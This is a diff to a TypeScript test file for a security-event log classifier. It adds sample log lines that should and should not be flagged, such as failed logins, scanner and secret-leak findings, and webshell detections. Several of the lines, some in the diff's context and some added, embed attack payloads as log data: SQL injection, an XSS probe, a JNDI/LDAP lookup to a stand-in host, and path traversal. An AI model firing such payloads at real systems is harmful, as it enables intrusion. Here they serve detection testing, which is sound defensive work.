@@ -3,6 +3,21 @@ import { testRecognition } from './recognition-table.ts';
 
 testRecognition(securityEvent, {
   yes: [
+    '2024-05-02 04:06:01,392 fail2ban.filter         [812]: INFO    [sshd] Found 203.0.113.9 - 2024-05-02 04:06:01',
+    'sshd[1]: Connection closed by invalid user admin 203.0.113.9 port 40022 [preauth]',
+    'sshd[1]: User root from 203.0.113.9 not allowed because not listed in AllowUsers',
+    'dovecot: imap-login: Disconnected (auth failed, 3 attempts in 12 secs): user=<bob>, method=PLAIN, rip=203.0.113.9, lip=10.0.0.5',
+    "** Alert 1714640000.1: - windows,authentication_failures,\nRule: 18152 (level 10) -> 'Multiple Windows Logon Failures.'\nFailure Reason:  Unknown user name or bad password.",
+    '10:00:00.000000000: Notice A shell was spawned in a container with an attached terminal (evt_type=execve user=root)',
+    '/var/www/upload/x.php: Php.Webshell.Agent-5 FOUND',
+    'Secret:      REDACTED\nRuleID:      aws-access-token\nEntropy:     4.1',
+    '10:00AM WRN leaks found: 3',
+    'ForbiddenError: invalid csrf token',
+    'GET /.env HTTP/1.1" 404 153 "-" "Mozilla/5.0"',
+    'GET /index.php?id=1%20UNION%20SELECT%201,2,3-- HTTP/1.1" 200 512',
+    'type="LOGIN_ERROR", realmId="shop", clientId="web", userId="null", ipAddress="203.0.113.9", error="user_not_found"',
+    'AH01617: user admin: authentication failure for "/admin": Password Mismatch',
+    'System.Web.HttpRequestValidationException: A potentially dangerous Request.Form value was detected from the client',
     '[W 240502 10:00:00 web:2344] 404 GET /login?next=%3Cimg%20src=x%20onerror=alert(1)%3E (203.0.113.9) 0.7ms',
     '404 GET /oauth?error=$%7Bjndi%3Aldap%3A%2F%2Fevil.example%7D (203.0.113.9)',
     '"GET /cgi-bin/%2e%2e/%2e%2e/bin/sh HTTP/1.1" 404',
@@ -18,6 +33,11 @@ testRecognition(securityEvent, {
     '[client 1.2.3.4] ModSecurity: Access denied with code 403 (phase 2).',
   ],
   no: [
+    ['INFO gitleaks no leaks found', 'none'],
+    ['/var/www/upload/x.png: OK', 'none'],
+    ['Infected files: 0', 'none'],
+    ["fail2ban.jail [812]: INFO Jail 'sshd' started", 'none'],
+    ['sshd[1]: Disconnected from user deploy 10.0.0.5 port 51234', 'none'],
     ['404 GET /static/img/onload.png (203.0.113.9) 0.7ms', 'none'],
     ['GET /docs/union-select.html 200', 'none'],
     ['open /etc/passwd: no such file or directory', 'missing_file'],
